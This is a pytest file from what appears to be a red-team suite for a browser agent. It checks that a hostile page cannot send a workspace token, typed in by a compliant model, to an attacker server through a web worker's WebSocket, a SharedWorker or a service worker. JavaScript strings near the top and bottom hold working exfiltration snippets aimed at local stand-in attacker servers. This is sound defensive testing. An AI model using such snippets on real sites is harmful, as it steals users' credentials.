"""Red team, a page's workers: Playwright routes neither a worker's WebSockets nor a SharedWorker's requests, and a
service worker answers a page's requests past its routes. After a compliant model typed a workspace token into a
page, the page hands it to a worker (loaded from a URL, classic or module, whose imports take the socket first), a
SharedWorker or a service worker to send on. Each is refused; an ordinary worker (relative imports, a fetch from
its own site, harmless text over a socket) keeps working. Real Chromium, pages and sockets on 127.0.0.1."""

from __future__ import annotations

from pathlib import Path

import pytest
from recording_server import RecordingServer, recording_servers
from test_flow_page_channels import SECRETS, TOKEN, WsServer, _page, _refused, _run, _seen, loopback_websockets

from gofer.events import ConfirmationRequested, RunStatus

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("loopback_websockets")]
__all__ = ["loopback_websockets"]  # the fixture, used here too

_CLASSIC = "importScripts('helper.js');\nonmessage = e => say(e.data);"
_MODULE = "import { say } from './helper.mjs.js';\nonmessage = e => say(e.data);"
_HELPER = """{export_}const Sock = WebSocket; let sock = null; const queue = [];
{export_}function say(text) {{
  if (!sock) {{ sock = new Sock('{url}/w'); sock.onopen = () => queue.splice(0).forEach(t => sock.send(t));
               sock.onmessage = m => postMessage(m.data); }}
  if (sock.readyState === 1) sock.send(text); else queue.push(text);
}}
say('hello from the garden');"""
_HEAD = """const w = new Worker('/w/{name}'{options});
w.onmessage = e => {{ document.getElementById('echo').textContent = e.data; }};"""


def _site(attacker: WsServer, module: bool) -> RecordingServer:
    export = "export " if module else ""
    name = "main.mjs.js" if module else "main.js"
    return RecordingServer({
        "/page": _page("w.postMessage(JSON.stringify({field: v}))",
                       _HEAD.format(name=name, options=", {type: 'module'}" if module else "")),
        f"/w/{name}": _MODULE if module else _CLASSIC,
        f"/w/helper{'.mjs' if module else ''}.js": _HELPER.format(export_=export, url=attacker.url),
    })


@pytest.mark.parametrize("module", [False, True], ids=["classic", "module"])
async def test_a_url_workers_websocket_cannot_carry_the_typed_token(tmp_path: Path, module: bool) -> None:
    attacker = WsServer()
    async with attacker.running():
        site = _site(attacker, module)
        with recording_servers(site):
            status, events = await _run(tmp_path, site, TOKEN, deny_domains=["never.invalid"])
    assert status == RunStatus.FINISHED
    assert not [m for m in attacker.messages if any(s in m for s in SECRETS)], attacker.messages
    assert "hello from the garden" in attacker.messages  # the worker's socket worked before it carried data
    refused = _refused(events)
    assert refused and "worker WebSocket message" in refused[0].details["kinds"]


@pytest.mark.parametrize("module", [False, True], ids=["classic", "module"])
async def test_an_ordinary_worker_keeps_working(tmp_path: Path, module: bool) -> None:
    attacker = WsServer()
    async with attacker.running():
        site = _site(attacker, module)
        with recording_servers(site):
            status, events = await _run(tmp_path, site, "tomatoes and basil")
    assert status == RunStatus.FINISHED
    assert [m for m in attacker.messages if "tomatoes and basil" in m]
    assert "echo: " in _seen(events)  # relative imports loaded, the server's answers reach the worker and page
    assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]


_SHARED = """const log = m => {{ document.getElementById('echo').textContent += ' ' + m; }};
let shared = null;
try {{ shared = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = e => {{ const port = e.ports[0];
  port.onmessage = m => fetch('{a}/s?d=' + encodeURIComponent(m.data)); }};`], {{type: 'text/javascript'}})));
  shared.port.start(); }} catch (e) {{ log('no shared worker'); }}
if (typeof SharedWorker === 'undefined') log('no shared worker');
navigator.serviceWorker.register('/sw.js').then(() => log('service worker on'), () => log('no service worker'));"""


async def test_no_shared_worker_or_service_worker_can_carry_the_typed_token(tmp_path: Path) -> None:
    attacker = RecordingServer()
    site = RecordingServer({"/sw.js": "self.onmessage = e => fetch('/x?d=' + e.data);"})
    with recording_servers(attacker, site):
        site.pages["/page"] = _page("shared && shared.port.postMessage(v)", _SHARED.format(a=attacker.url))
        status, events = await _run(tmp_path, site, TOKEN, deny_domains=["never.invalid"])
    assert status == RunStatus.FINISHED
    assert not attacker.leaked(*SECRETS), attacker.requests
    seen = _seen(events)
    assert "no shared worker" in seen and "no service worker" in seen
